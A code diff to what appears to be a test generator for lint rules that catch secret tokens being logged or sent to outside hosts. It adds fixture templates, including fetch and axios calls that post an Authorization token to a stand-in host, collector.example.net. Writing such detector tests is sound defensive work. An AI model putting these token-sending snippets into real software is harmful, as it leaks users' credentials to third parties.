@@ -39,12 +39,16 @@ const STEPS: Record<string, Step> = {
   destructuredParameter: (input, index) => `const pass${index} = ({ key }) => key;\nconst v${index + 1} = pass${index}({ key: ${input} });`,
   classField: (input, index) => `class C${index} {\n  constructor(value) {\n    this.value = value;\n  }\n}\nconst v${index + 1} = new C${index}(${input}).value;`,
   passThrough: (input, index) => `const v${index + 1} = String(${input}).trim();`,
+  formatted: (input, index) => `const v${index + 1} = util.format("%s", ${input});`,
+  filledParams: (input, index) => `const v${index + 1} = new URLSearchParams();\nv${index + 1}.append("token", ${input});`,
 };
 
 const SINKS: Record<string, (input: string) => { code: string; rule: string }> = {
   log: (input) => ({ code: `console.log(${input});`, rule: "hf-secrets/no-token-logging" }),
   warn: (input) => ({ code: `logger.warn("token", ${input});`, rule: "hf-secrets/no-token-logging" }),
   request: (input) => ({ code: `fetch("https://collector.example.net/x", { headers: { Authorization: ${input} } });`, rule: "hf-secrets/no-token-to-third-party" }),
+  requestInit: (input) => ({ code: `const init = { method: "POST", headers: { Authorization: ${input} } };\nfetch("https://collector.example.net/x", init);`, rule: "hf-secrets/no-token-to-third-party" }),
+  clientInstance: (input) => ({ code: `const api = axios.create({ baseURL: "https://collector.example.net" });\napi.post("/x", { key: ${input} });`, rule: "hf-secrets/no-token-to-third-party" }),
   methodSink: (input) => ({
     code: `class Sender {\n  constructor(secret) {\n    this.secret = secret;\n  }\n  send() {\n    return fetch("https://collector.example.net", { body: this.secret });\n  }\n}\nnew Sender(${input});`,
     rule: "hf-secrets/no-token-to-third-party",
